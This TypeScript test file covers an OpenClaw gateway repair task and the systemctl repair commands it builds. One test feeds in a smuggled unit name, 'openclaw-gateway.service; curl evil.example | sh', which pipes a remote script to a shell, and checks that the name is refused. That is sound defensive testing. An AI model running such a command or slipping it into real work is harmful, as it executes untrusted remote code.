import { afterEach, describe, expect, test } from 'vitest';
import { createFastForwardClock } from '../../tasks/testing/fast-forward-clock.ts';
import { makeTestFolder, openTestTasks } from '../../tasks/testing/test-tasks.ts';
import { createDoctorKind } from './doctor.ts';
import { createReadRepairCommands } from './repair-commands.ts';
import { createServer } from './testing/fake-server.ts';

type Server = ReturnType<typeof createServer>['server'];

describe('the repair of a gateway by OpenClaw itself', () => {
  const closing: Array<() => Promise<void>> = [];
  afterEach(async () => {
    for (const close of closing.splice(0)) await close();
  });

  const repair = async (change: (server: Server) => void = () => {}) => {
    const clock = createFastForwardClock();
    const { server, tools } = createServer(clock);
    change(server);
    const folder = makeTestFolder();
    const all = await openTestTasks(folder, [createDoctorKind(tools)], { clock });
    closing.push(async () => {
      await all.close();
      folder.remove();
    });
    const { id } = await all.tasks.start('openclaw.doctor', {
      serverId: await all.newServer(),
      input: {},
      createdBy: 'u_1',
    });
    return { task: await all.ended(id), server };
  };

  test('mends config and state first, then restarts the gateway and proves that it works', async () => {
    const { task, server } = await repair();
    expect(task).toMatchObject({ status: 'succeeded', result: { version: '2026.9.6' } });
    expect(server.commands).toEqual(['doctor --fix --non-interactive', 'Restarting']);
  });

  test('fails with the cause when the gateway does not start afterwards', async () => {
    const { task } = await repair((server) => {
      server.starts = ['fails'];
      server.journal = ['bad config'];
    });
    expect(task).toMatchObject({ status: 'failed', error: { code: 'refused' } });
    expect(task.steps.find(({ id }) => id === 'doctor')).toMatchObject({ status: 'succeeded' });
  });

  test('changes nothing where OpenClaw is not installed', async () => {
    const { task, server } = await repair((one) => {
      one.installed = false;
    });
    expect(task).toMatchObject({ status: 'failed', error: { code: 'not_installed' } });
    expect(server.commands).toEqual([]);
  });
});

describe('repair commands', () => {
  const commandsFor = (manager: Server['manager'], unit = 'openclaw-gateway.service') => {
    const { server, tools } = createServer(createFastForwardClock());
    Object.assign(server, { manager, unit });
    return createReadRepairCommands(tools)('srv_1', { signal: new AbortController().signal });
  };

  test('are those of the service manager and OpenClaw', async () => {
    const of = (order: string) => `systemctl --user ${order} openclaw-gateway.service`;
    expect(await commandsFor('systemd-user')).toEqual({
      restart: [of('reset-failed'), of('restart')],
      resetFailed: [of('reset-failed'), of('start')],
      doctor: ['openclaw --no-color doctor --fix --non-interactive', of('reset-failed'), of('restart')],
      ...{ stop: of('stop'), start: of('start'), version: '2026.9.6' },
    });
  });

  test.each([
    'openclaw-gateway.service; curl evil.example | sh',
    'a b.service',
    `${'x'.repeat(101)}.service`,
    'x',
  ])('are refused where the server names "%s" as the unit', async (unit) => {
    await expect(commandsFor('systemd-user', unit)).rejects.toMatchObject({ code: 'unsupported' });
  });

  test.each(['openclaw@main.service', 'open\\x2dclaw.service'])('name the unit %s', async (unit) => {
    expect((await commandsFor('systemd-system', unit)).restart).toContain(`systemctl restart ${unit}`);
  });

  test('are refused where no service manager runs the gateway', async () => {
    await expect(commandsFor('none')).rejects.toMatchObject({ code: 'unsupported' });
  });
});
